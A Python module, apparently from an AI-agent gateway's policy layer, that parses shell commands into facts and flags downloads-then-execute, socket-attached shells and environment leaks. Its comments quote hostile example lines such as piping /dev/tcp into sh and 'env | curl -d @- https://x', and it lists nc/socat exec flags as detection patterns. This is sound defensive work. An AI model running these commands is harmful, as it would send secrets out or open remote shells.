"""Shell commands as simple commands, parsed with tree-sitter-bash, for rules to reason over.

What a rule gets for each simple command (see ``Command.as_fact``): the argv after quote and
escape removal (ANSI-C ``$'..'`` included), brace expansion and static variable substitution; the
program name resolved through paths and wrappers (``env``, ``sudo -u x``, ``nice``, ``exec``,
``command``, ``busybox``, ``xargs``, ...); ``bash -c`` / ``eval`` / heredoc / ``echo ... | sh``
payloads parsed recursively, up to :data:`MAX_DEPTH`; options as the program reads them
(:mod:`options`); redirections; which programs feed its stdin and read its stdout (pipelines,
``|&``, subshells, groups, process substitution); the programs whose output it runs as code; the
effective cwd after ``cd``; and ``dynamic`` when something stays unknown until run time.
Oversized, unparseable or too deeply nested input is reported, not guessed at."""

from __future__ import annotations

import re
from collections import OrderedDict
from typing import Any

import orjson

from gateway.policy.facts import effects as effectmod
from gateway.policy.facts import paths as pathmod
from gateway.policy.facts.shell.command import Command, State, is_interpreter, unique
from gateway.policy.facts.shell.walker import MAX_BYTES, Walker

__all__ = ["CACHE_ENTRIES", "CACHE_MAX_TEXT", "MAX_BYTES", "parse_command"]

CACHE_ENTRIES = 256
CACHE_MAX_TEXT = 2048
CACHE_MAX_FACTS = 16384
"""The parse cache holds at most 256 results of commands up to 2 KiB whose facts encode to at
most 16 KiB (about 4.6 MB at worst): agents repeat the same commands (``git status``, the test
command), and a flood of unique ones only evicts."""
_cache: OrderedDict[tuple[str, str, str], bytes] = OrderedDict()


def parse_command(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[str]]:
    """Facts of every simple command in ``text`` and the reasons it could not be read fully.

    A pure function of its three inputs, so repeated commands are answered from a bounded LRU
    cache; each call gets its own copy decoded from JSON (cached or not), never a shared object."""
    key = (text, cwd, home)
    cached = _cache.get(key)
    if cached is not None:
        _cache.move_to_end(key)
        facts, reasons = orjson.loads(cached)
        return facts, reasons
    encoded = orjson.dumps(_parse(text, cwd, home))
    if len(text) <= CACHE_MAX_TEXT and len(encoded) <= CACHE_MAX_FACTS:
        _cache[key] = encoded
        if len(_cache) > CACHE_ENTRIES:
            _cache.popitem(last=False)
    facts, reasons = orjson.loads(encoded)  # the same JSON shape whether cached or not
    return facts, reasons


def _parse(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[str]]:
    walker = Walker(home)
    state = State(cwd=cwd, home=home, vars={})
    try:
        walker.parse(text, state, 0, "")
        walker.uncalled(state)
    except RecursionError:
        walker.unparsed.append("too-deep")
    except ValueError:
        walker.unparsed.append("syntax")
    for cmd in walker.commands:
        lost = cwd != "" and cmd.state.cwd == ""
        found = effectmod.of_command(cmd.fact, cmd.words[cmd.start + 1 :], cmd.state.cwd, cmd.state.home, lost)
        cmd.fact["effects"] = effectmod.with_persist(found + cmd.code_effects)
    _link_effects(walker.commands)
    facts = []
    for cmd in walker.commands:
        fact = dict(cmd.fact)
        fact.pop("_inputs", None)
        fact.pop("_values", None)
        fact.pop("_stdin_parsed", None)
        fact.pop("paths_raw", None)
        facts.append(fact)
    return facts, unique(walker.unparsed)


ENVIRONMENT_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
"""Programs that print the environment (its tokens and keys among it) when given no operands."""
_SENDS = frozenset({"send", "tunnel"})
_SOCKET_EXEC = re.compile(r"^(exec|system):", re.I)
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})


def _link_effects(commands: list[Command]) -> None:
    """Effects that only the command line as a whole shows: code run from a program that read the
    network is downloaded (``cat < /dev/tcp/h/80 | sh``), a shell or interpreter whose input or
    output is a socket, or that ``socat``/``nc`` attach to one, is a remote shell, and the
    environment printed into a program that sends is a credential leaving."""
    printers = [c for c in commands if c.program in ENVIRONMENT_PRINTERS and not c.fact["operands"]]
    printing = {c.program for c in printers}
    dumps = {e["path"] for c in printers for e in c.fact["effects"] if e["kind"] == "write" and e["path"]}
    """Files the environment was printed into (``env > f``): sending them sends it."""
    fetching = {c.program for c in commands if any(e["kind"] == "network" for e in c.fact["effects"]) and c.program}
    for index, cmd in enumerate(commands):
        fact = cmd.fact
        found: list[dict[str, Any]] = fact["effects"]
        if "xargs" in fact["wrappers"] and "find" in cmd.stdin_from:
            _find_fed(cmd, commands[:index], found)
        for e in found:
            if e["kind"] == "exec" and e["source"] != "download" and set(cmd.code_from) & fetching:
                e["source"] = "download"
        via = [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
        program = cmd.program
        socket = any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)
        args = fact["args"]
        attached = (program == "socat" and any(_SOCKET_EXEC.match(a) for a in args)) or (
            program in ("nc", "ncat", "netcat") and any(a in _NC_EXEC for a in args)
        )
        if (socket and is_interpreter(program)) or attached:
            found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
        sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
        if sending and (
            set(cmd.stdin_from + fact.get("_inputs", [])) & printing or (dumps and dumps & _sent_files(fact))
        ):
            # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`: the environment leaves
            found.append(effectmod.effect("credential", "env", via, certainty="unknown"))


def _sent_files(fact: dict[str, Any]) -> set[str]:
    """The files a sending command reads (``curl -d @f``, ``-T f``, ``--post-file=f``)."""
    return set(fact["paths"]) | {e["path"] for e in fact["effects"] if e["kind"] == "read"}


def _find_fed(cmd: Command, before: list[Command], found: list[dict[str, Any]]) -> None:
    """``find ROOT ... | xargs rm``: what xargs deletes is below the roots of the ``find`` that
    feeds it (a bounded, recursive delete, as ``find ROOT -exec rm {} +``), not unknown."""
    finder = next((c for c in reversed(before) if c.program == "find" and cmd.program in c.stdout_to), None)
    if finder is None:
        return
    roots: list[str] = []
    for a in finder.words[finder.start + 1 :]:
        if a.dynamic:
            return  # a root only known at run time: the delete stays unknown
        if a.text.startswith("-") or a.text in ("(", "!"):
            break
        roots.append(a.text)
    paths = [pathmod.normalize(r, finder.state.cwd, finder.state.home, shell=True) for r in roots or ["."]]
    for k, e in enumerate(found):
        if e["kind"] == "delete" and e["certainty"] == "unknown" and e["path"] == "":
            bounded = [e | {"path": p, "recursive": True, "certainty": "bounded"} for p in paths]
            found[k : k + 1] = bounded
            break
